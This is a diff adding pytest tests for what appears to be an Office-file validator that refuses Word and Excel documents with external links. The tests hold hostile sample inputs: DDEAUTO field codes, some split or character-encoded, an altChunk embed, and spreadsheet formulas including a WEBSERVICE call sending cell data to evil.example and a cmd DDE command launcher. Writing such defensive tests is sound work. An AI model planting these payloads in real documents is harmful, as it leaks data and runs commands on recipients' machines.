@@ -110,6 +110,42 @@ def test_workbooks_that_fetch_from_others_are_refused(tmp_path: Path, more: Mapp
     assert refused(tmp_path, workbook("<sheetData/>", more), "form.xlsx").code == "linked"
 
 
+@pytest.mark.parametrize(
+    "pieces",
+    [
+        ("<w:t>x</w:t>", "PAGE", "DDEAUTO c:\\\\x"),
+        ("", "DDEA", "UTO c:\\\\x", "joined"),
+        ("", "QUOTE 68 68 69 65 85 84 79"),
+    ],
+)
+def test_fields_of_word_are_known_however_they_are_cut(tmp_path: Path, pieces: tuple[str, ...]) -> None:
+    text, *codes = pieces
+    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    between = "</w:p><w:p>" if codes[-1] == "joined" else begin
+    made = between.join(f"<w:r>{text}<w:instrText>{code}</w:instrText></w:r>" for code in codes if code != "joined")
+    assert refused(tmp_path, document(f"{BODY}<w:p>{begin}{made}</w:p>")).code == "linked"
+
+
+def test_a_foreign_file_inside_a_document_is_refused(tmp_path: Path) -> None:
+    assert refused(tmp_path, document(f'{BODY}<w:altChunk r:id="rId1"/>')).code == "linked"
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        'WEBSERVICE("https://evil.example/?"&amp;A1)',
+        '_xlfn.IMAGE ("https://x/"&amp;A1)',
+        "cmd|'/c calc'!A0",
+        'dde("a";"b")',
+    ],
+)
+def test_formulas_that_carry_something_out_are_refused(tmp_path: Path, formula: str) -> None:
+    sheet = f'<sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData>'
+    assert refused(tmp_path, workbook(sheet), "form.xlsx").code == "linked"
+    name = f'<definedNames><definedName name="x">{formula}</definedName></definedNames>'
+    assert refused(tmp_path, workbook("<sheetData/>", names=name), "form.xlsx").code == "linked"
+
+
 def test_files_of_other_kinds_are_told_what_to_do(tmp_path: Path) -> None:
     open_document = io.BytesIO()
     with zipfile.ZipFile(open_document, "w") as archive:
